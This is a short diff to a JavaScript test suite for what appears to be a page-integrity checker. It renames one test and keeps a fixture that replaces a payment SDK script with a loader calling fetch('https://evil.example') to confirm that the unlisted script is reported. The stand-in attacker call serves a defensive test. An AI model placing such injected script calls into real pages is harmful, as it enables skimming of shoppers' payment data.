@@ -163,7 +163,7 @@ describe('an intact page', { timeout: BROWSER_TIME }, () => {
 });
 
 describe('a script that is in no list', { timeout: BROWSER_TIME }, () => {
-  test('in place of the SDK is found', async () => {
+  test('in place of the SDK is found [sdk-replaced]', async () => {
     served(`${shop}/pay.global.js`).body = `${LOADER} fetch("https://evil.example")`;
     expect(await errors()).toContainEqual(
       expect.stringMatching(/^script http:.*\/pay\.global\.js: It ran and is in no list: sha384-/),
